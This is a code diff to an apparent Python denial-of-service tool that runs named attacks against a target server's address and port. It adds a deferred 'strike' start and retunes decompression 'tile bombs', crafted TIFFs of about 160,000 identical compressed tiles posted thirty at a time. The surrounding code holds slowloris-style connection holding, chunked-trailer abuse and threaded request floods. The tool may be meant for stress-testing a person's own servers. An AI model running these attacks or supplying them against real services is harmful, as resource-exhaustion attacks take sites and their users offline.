@@ -17,7 +17,7 @@ import threading
 import time
 import zlib
 from collections import Counter
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 
 import numpy as np
 from PIL import Image
@@ -34,8 +34,15 @@ class Target:
     def __init__(self, port: int, seconds: float, address: str) -> None:
         self.port = port
         self.address = address
-        self.end = time.monotonic() + seconds
+        self.seconds = seconds
+        self.end = 0.0
         self.counts: Counter[str] = Counter()
+
+    def strike(self) -> None:
+        """Begin, once all is prepared."""
+        if not self.end:
+            self.end = time.monotonic() + self.seconds
+            print("striking", flush=True)
 
     @property
     def lasts(self) -> bool:
@@ -54,6 +61,8 @@ class Target:
 
     def on_threads(self, work: Callable[[], None], count: int) -> None:
         """Do this again and again on so many threads; a connection that the server ends is what it may do."""
+
+        self.strike()
 
         def again() -> None:
             while self.lasts:
@@ -89,6 +98,7 @@ def idle_connections(target: Target) -> None:
 
 
 def hold_each(target: Target, count: int, first: bytes, then: bytes) -> None:
+    target.strike()
     held: list[socket.socket] = []
     while target.lasts:
         while len(held) < count and target.lasts:
@@ -157,6 +167,7 @@ def long_trailer(target: Target) -> None:
 
         return send
 
+    target.strike()
     for start in (b"1\r\na\r\n0\r\nX: ", b"1;x="):
         threading.Thread(target=target.on_threads, args=(one(start), 1), daemon=True).start()
     while target.lasts:
@@ -267,7 +278,7 @@ def number_bombs(target: Target) -> None:
 
 
 def tile_bombs(target: Target) -> None:
-    """Requests of 30 TIFFs of 50 million pixels in tiles of 16 x 16."""
+    """Requests of 30 TIFFs of 41 million pixels in tiles of 16 x 16."""
     post_images(target, [tile_bomb()] * 30, 4)
 
 
@@ -327,8 +338,8 @@ def large_image(form: str, side: int) -> bytes:
     return encoded.getvalue()
 
 
-def tile_bomb(side: int = 7000) -> bytes:
-    """All tiles are the same compressed one: a small file, and 190,000 tiles to decode."""
+def tile_bomb(side: int = 6400) -> bytes:
+    """All tiles are the same compressed one: a small file, and 160,000 tiles to decode."""
     tile = zlib.compress(bytes(16 * 16 * 3))
     count = (-(-side // 16)) ** 2
     entries = [
@@ -431,11 +442,6 @@ def main() -> None:
     with contextlib.suppress(OSError):
         ATTACKS[name](target)
     print(json.dumps({key: round(value) for key, value in sorted(target.counts.items())}), flush=True)
-
-
-def iterate_names() -> Iterator[str]:
-    """The names of all attacks."""
-    yield from ATTACKS
 
 
 if __name__ == "__main__":
